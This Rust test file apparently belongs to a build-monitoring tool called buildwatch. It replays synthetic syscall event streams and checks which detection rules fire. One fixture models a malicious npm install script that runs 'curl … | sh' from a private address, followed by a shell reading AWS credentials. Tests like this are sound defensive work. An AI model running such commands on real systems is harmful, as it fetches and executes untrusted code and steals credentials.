//! Every default rule against small event fixtures, through `buildwatch replay` (no root).
//!
//! tests/fixtures/rule-cases.json maps each rule to cases that must fire it and cases that must
//! not. Events there are written short; [`complete`] fills in the envelope and the fields a
//! recorded stream always has, so what replay reads is a well-formed stream.

use std::{collections::BTreeSet, fs, process::Command};

use buildwatch_tests::*;
use serde_json::{Value, json};

const CASES: &str = include_str!("../fixtures/rule-cases.json");
const KINDS: &[&str] = &[
    "exec",
    "fork",
    "exit",
    "open",
    "chdir",
    "connect",
    "send",
    "ptrace",
    "process_vm",
    "dns",
    "bpf",
    "socket",
    "rename",
    "link",
    "unlink",
    "chmod",
    "truncate",
    "bind",
    "listen",
    "setxattr",
    "signal",
    "escape",
    "run",
];

/// A short fixture event → a full schema-1 event.
fn complete(mut ev: Value, seq: usize) -> Value {
    let o = ev.as_object_mut().expect("events are objects");
    let kind = KINDS
        .iter()
        .find(|k| o.contains_key(**k))
        .expect("event has a kind");
    let pid = o["pid"].as_u64().unwrap();
    o.insert("schema".into(), json!(1));
    o.insert("seq".into(), json!(seq));
    o.insert(
        "time".into(),
        json!(format!("2026-11-25T00:00:00.{seq:09}Z")),
    );
    o.insert("ts_ns".into(), json!(seq));
    o.insert("kind".into(), json!(kind));
    o.entry("tid").or_insert(json!(pid));
    let d = o.get_mut(*kind).unwrap().as_object_mut().unwrap();
    let path = d.get("path").cloned();
    let mut default = |k: &str, v: Value| {
        d.entry(k).or_insert(v);
    };
    match *kind {
        "exec" => {
            let path = path.expect("exec fixtures have a path");
            default("syscall", json!("execve"));
            default("filename", path);
            default("cwd", json!("/"));
            default("ret", json!(0));
        }
        "open" => {
            default("syscall", json!("openat"));
            default("flags", json!(["read"]));
            default("flags_raw", json!(0));
            default("ret", json!(3));
        }
        "connect" => {
            default("fd", json!(3));
            default("ret", json!(0));
        }
        "dns" => {
            default("direction", json!("query"));
            default("protocol", json!("udp"));
            default("resolver", json!("127.0.0.53"));
            default("resolver_port", json!(53));
        }
        "run" => {
            default("command", json!(["make"]));
            default("cwd", json!("/w"));
            default("pid", json!(10));
            default("version", json!("0"));
        }
        _ => {}
    }
    ev
}

/// The `run_end` record a stream written by `buildwatch run` ends with (a replay of a stream
/// without one cannot vouch for it).
fn run_end(seq: usize) -> Value {
    json!({
        "schema": 1, "seq": seq, "time": format!("2026-11-25T00:00:01.{seq:09}Z"),
        "ts_ns": 1_000_000_000 + seq, "kind": "run_end", "pid": 0, "tid": 0,
        "run_end": {"exit_code": 0, "code": 0},
    })
}

/// Write short fixture events as a whole stream (completed, numbered, ended by run_end).
fn write_stream(file: &std::path::Path, events: &[Value]) {
    let mut stream: Vec<String> = events
        .iter()
        .enumerate()
        .map(|(i, e)| complete(e.clone(), i + 1).to_string())
        .collect();
    stream.push(run_end(events.len() + 1).to_string());
    fs::write(file, stream.join("\n") + "\n").unwrap();
}

/// Replay the events with extra arguments; the set of rules that fired.
/// `env`: environment variables for the replay (the secrets it looks for).
fn fired_with(
    dir: &TempDir,
    name: &str,
    events: &[Value],
    args: &[String],
    env: &[(String, String)],
) -> BTreeSet<String> {
    let file = dir.join("events.jsonl");
    write_stream(&file, events);
    let report = dir.join("report.json");
    let out = Command::new(buildwatch_bin())
        .current_dir(dir.path())
        .envs(env.iter().map(|(k, v)| (k, v)))
        .arg("replay")
        .arg(&file)
        .arg("--report")
        .arg(&report)
        .args(["--fail-on", "never"])
        .args(args)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{name}: {stderr}");
    assert!(
        !stderr.contains("not an event"),
        "{name}: fixture is not a valid stream: {stderr}"
    );
    let r: Value = serde_json::from_slice(&fs::read(&report).unwrap()).unwrap();
    let runs = events.iter().filter(|e| e.get("run").is_some()).count();
    assert_eq!(r["events"]["total"], json!(events.len() - runs), "{name}");
    // A rule that matched as a part of another's finding (same event, or the same action)
    // fired too.
    r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|f| {
            let parts = f["parts"].as_array().cloned().unwrap_or_default();
            std::iter::once(f["rule"].clone()).chain(parts.into_iter().map(|p| p["rule"].clone()))
        })
        .map(|r| r.as_str().unwrap().to_owned())
        .collect()
}

#[test]
fn every_default_rule_fires_and_stays_quiet_as_its_fixtures_say() {
    let cases: Value = serde_json::from_str(CASES).unwrap();
    let dir = TempDir::new("rules");
    let mut failures = Vec::new();
    for (rule, sets) in cases.as_object().unwrap() {
        for (want, key) in [(true, "fires"), (false, "quiet")] {
            for case in sets[key].as_array().unwrap() {
                let name = format!("{rule} / {}", case["name"].as_str().unwrap());
                // `POLICY:<yaml>` stands for a policy file with that text.
                let args: Vec<String> = case["args"]
                    .as_array()
                    .map(|a| {
                        a.iter()
                            .map(|s| {
                                let s = s.as_str().unwrap();
                                match s.strip_prefix("POLICY:") {
                                    Some(yaml) => {
                                        let f = dir.join("policy.yaml");
                                        fs::write(&f, yaml).unwrap();
                                        f.display().to_string()
                                    }
                                    None => s.to_owned(),
                                }
                            })
                            .collect()
                    })
                    .unwrap_or_default();
                // `env`: variables for the replay (a secret's value, for secret-exfil).
                let env: Vec<(String, String)> = case["env"]
                    .as_object()
                    .map(|o| {
                        o.iter()
                            .map(|(k, v)| (k.clone(), v.as_str().unwrap().to_owned()))
                            .collect()
                    })
                    .unwrap_or_default();
                let got = fired_with(&dir, &name, case["events"].as_array().unwrap(), &args, &env);
                if got.contains(rule) != want {
                    failures.push(format!(
                        "{name}: expected {} to {}; fired {got:?}",
                        rule,
                        if want { "fire" } else { "stay quiet" }
                    ));
                }
            }
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

#[test]
fn every_default_rule_has_both_kinds_of_fixture() {
    let cases: Value = serde_json::from_str(CASES).unwrap();
    let out = Command::new(buildwatch_bin())
        .args(["rules", "list", "--json"])
        .output()
        .unwrap();
    assert!(out.status.success());
    let rules: Value = serde_json::from_slice(&out.stdout).unwrap();
    for r in rules.as_array().unwrap() {
        let name = r["rule"].as_str().unwrap();
        let c = &cases[name];
        assert!(
            c["fires"].as_array().is_some_and(|a| !a.is_empty())
                && c["quiet"].as_array().is_some_and(|a| !a.is_empty()),
            "rule {name} needs fixtures that fire and fixtures that do not"
        );
    }
}

/// One action, one finding: `sh -c "curl … | sh"` from an install script is one critical
/// finding; the curl it starts and curl's connection to an unlisted, unresolved address are
/// its parts, and so is the shell-spawn rule that matched the same exec. What the downloaded script then does to a
/// credential is a finding of its own.
#[test]
fn one_curl_pipe_sh_is_one_finding_with_its_parts() {
    let dir = TempDir::new("action");
    let events = [
        json!({"pid": 10, "ppid": 1, "exec": {"path": "/usr/bin/node",
            "argv": ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install"], "cwd": "/w"}}),
        json!({"pid": 11, "ppid": 10, "exec": {"path": "/usr/bin/sh",
            "argv": ["sh", "-c", "node install.js"], "cwd": "/w/node_modules/evil",
            "package": {"manager": "npm", "name": "evil", "version": "1.0.1"}}}),
        json!({"pid": 12, "ppid": 11, "exec": {"path": "/usr/bin/node",
            "argv": ["node", "install.js"], "cwd": "/w/node_modules/evil"}}),
        json!({"pid": 13, "ppid": 12, "exec": {"path": "/usr/bin/sh",
            "argv": ["sh", "-c", "curl -s http://10.200.0.9/x | sh"], "cwd": "/w/node_modules/evil"}}),
        json!({"pid": 14, "ppid": 13, "exec": {"path": "/usr/bin/curl",
            "argv": ["curl", "-s", "http://10.200.0.9/x"], "cwd": "/w/node_modules/evil"}}),
        json!({"pid": 14, "connect": {"family": "inet", "address": "10.200.0.9", "port": 80}}),
        json!({"pid": 15, "ppid": 13, "exec": {"path": "/usr/bin/sh", "argv": ["sh"],
            "cwd": "/w/node_modules/evil"}}),
        json!({"pid": 15, "open": {"path": "/home/ci/.aws/credentials", "flags": ["read"]}}),
    ];
    write_stream(&dir.join("e.jsonl"), &events);
    let out = Command::new(buildwatch_bin())
        .current_dir(dir.path())
        .args(["replay", "e.jsonl", "--report", "r.json"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(86));
    let r: Value = serde_json::from_slice(&fs::read(dir.join("r.json")).unwrap()).unwrap();
    let findings = r["findings"].as_array().unwrap();
    let rules: Vec<&str> = findings
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert_eq!(
        rules,
        ["download-piped-to-shell", "sensitive-file-read"],
        "{r:#}"
    );
    let parts: BTreeSet<&str> = findings[0]["parts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["rule"].as_str().unwrap())
        .collect();
    assert_eq!(
        parts,
        BTreeSet::from([
            "interpreter-spawns-shell",
            "network-tool-in-install-script",
            "egress-unlisted",
            "egress-unresolved-address",
        ]),
        "{:#}",
        findings[0]
    );
}

/// docs/rules.md has a heading for every default rule (SARIF's helpUri points at it) and none
/// for a rule that no longer exists.
#[test]
fn every_default_rule_is_documented_where_sarif_links() {
    let out = Command::new(buildwatch_bin())
        .args(["rules", "list", "--json"])
        .output()
        .unwrap();
    let rules: Value = serde_json::from_slice(&out.stdout).unwrap();
    let names: BTreeSet<String> = rules
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["rule"].as_str().unwrap().to_owned())
        .collect();
    let docs =
        fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/rules.md")).unwrap();
    let section = docs
        .split("## Default rules")
        .nth(1)
        .and_then(|s| s.split("\n## ").next())
        .expect("docs/rules.md has a Default rules section");
    let documented: BTreeSet<String> = section
        .lines()
        .filter_map(|l| l.strip_prefix("#### "))
        .map(str::to_owned)
        .collect();
    assert_eq!(documented, names, "docs/rules.md's Default rules section");
}

#[test]
fn replay_reports_bad_lines_with_their_number_and_keeps_going() {
    let dir = TempDir::new("badlines");
    let good = complete(json!({"pid": 5, "open": {"path": "/proc/1/mem"}}), 1).to_string();
    let end = run_end(4).to_string();
    fs::write(
        dir.join("e.jsonl"),
        format!("{good}\nnot json\n{{\"schema\": 0}}\n{end}\n"),
    )
    .unwrap();
    let out = Command::new(buildwatch_bin())
        .current_dir(dir.path())
        .args(["replay", "e.jsonl", "--report", "r.json"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("e.jsonl:2: not an event"), "{stderr}");
    assert!(stderr.contains("e.jsonl:3: not an event"), "{stderr}");
    assert!(stderr.contains("2 line(s) were not events"), "{stderr}");
    // The good line still counts, and its critical finding fails the verdict.
    assert_eq!(out.status.code(), Some(86), "{stderr}");
    let r: Value = serde_json::from_slice(&fs::read(dir.join("r.json")).unwrap()).unwrap();
    assert_eq!(r["findings"][0]["rule"], "read-other-process-memory");
    // So do the bad lines: a damaged stream is not one buildwatch wrote.
    let reasons = r["verdict"]["reasons"].to_string();
    assert!(reasons.contains("2 line(s) are not events"), "{reasons}");
}

/// A stream that cannot be judged never passes: empty, garbage and newer-schema streams are
/// errors (status 125), and a truncated one (no `run_end`), however clean its events, fails
/// the verdict (86), each with its reason.
#[test]
fn replay_of_a_stream_it_cannot_vouch_for_never_passes() {
    let dir = TempDir::new("badstreams");
    let quiet = complete(json!({"pid": 5, "open": {"path": "/etc/hostname"}}), 1).to_string();
    let newer = quiet.replacen("\"schema\":1", "\"schema\":2", 1);
    assert_ne!(newer, quiet);
    let end = run_end(2).to_string();
    let cases: [(&str, String, i32, &str); 5] = [
        ("empty", String::new(), 125, "no events (empty)"),
        (
            "garbage",
            "PK\u{3}\u{4} not a stream\n{}\n".into(),
            125,
            "no events (2 line(s) that are not events)",
        ),
        (
            "newer",
            format!("{newer}\n{end}\n"),
            125,
            "e.jsonl:1: written by a newer buildwatch (event schema 2; this one reads 1)",
        ),
        (
            "truncated",
            format!("{quiet}\n"),
            86,
            "the stream ends without `run_end`",
        ),
        (
            "cut mid-line",
            format!("{quiet}\n{}", &end[..end.len() / 2]),
            86,
            "1 line(s) are not events",
        ),
    ];
    for (name, stream, status, want) in cases {
        fs::write(dir.join("e.jsonl"), stream).unwrap();
        let _ = fs::remove_file(dir.join("r.json"));
        let out = Command::new(buildwatch_bin())
            .current_dir(dir.path())
            .args(["replay", "e.jsonl", "--report", "r.json"])
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(status), "{name}: {stderr}");
        if status == 86 {
            let r: Value = serde_json::from_slice(&fs::read(dir.join("r.json")).unwrap()).unwrap();
            assert_eq!(r["findings"], json!([]), "{name}");
            let reasons = r["verdict"]["reasons"].to_string();
            assert!(reasons.contains(want), "{name}: want `{want}` in {reasons}");
        } else {
            assert!(stderr.contains(want), "{name}: want `{want}` in {stderr}");
        }
    }
    // The same stream, whole, passes.
    fs::write(dir.join("e.jsonl"), format!("{quiet}\n{end}\n")).unwrap();
    let out = Command::new(buildwatch_bin())
        .current_dir(dir.path())
        .args(["replay", "e.jsonl"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn bad_rule_files_get_positioned_errors_not_panics() {
    let dir = TempDir::new("badrules");
    let cases = [
        (
            "syntax.yaml",
            "- rule: r\n  desc: [oops\n",
            "syntax.yaml:3:1: error: YAML syntax",
        ),
        (
            "field.yaml",
            "- rule: r\n  desc: d\n  condition: evt.type = open and file.pth = /x\n  output: o\n  severity: high\n  category: c\n",
            "field.yaml:3:34: error: unknown field `file.pth`",
        ),
        (
            "macro.yaml",
            "- rule: r\n  desc: d\n  condition: evt.type = exec and no_such_macro\n  output: o\n  severity: high\n  category: c\n",
            "macro.yaml:3:34: error: unknown macro or field `no_such_macro`",
        ),
        (
            "cycle.yaml",
            "- macro: a\n  condition: b\n- macro: b\n  condition: a\n",
            "error: macros refer to each other in a cycle",
        ),
        (
            "key.yaml",
            "- rule: r\n  descr: d\n",
            "key.yaml:2:3: error: unknown field `descr` in rule",
        ),
    ];
    for (name, src, want) in cases {
        fs::write(dir.join(name), src).unwrap();
        let out = Command::new(buildwatch_bin())
            .current_dir(dir.path())
            .args(["rules", "check", name])
            .output()
            .unwrap();
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert_eq!(out.status.code(), Some(1), "{name}: {stdout}");
        assert!(stdout.contains(want), "{name}: want `{want}` in:\n{stdout}");
        assert!(
            stdout.contains(" | "),
            "{name}: a snippet of the line: {stdout}"
        );
    }
    // A run with a broken policy stops before running anything.
    fs::write(dir.join(".buildwatch.yaml"), "fail_on: sometimes\n").unwrap();
    let out = Command::new(buildwatch_bin())
        .current_dir(dir.path())
        .args(["replay", "/dev/null"])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{stderr}");
    assert!(
        stderr.contains(".buildwatch.yaml:1:10: error: `fail_on` must be"),
        "{stderr}"
    );
}
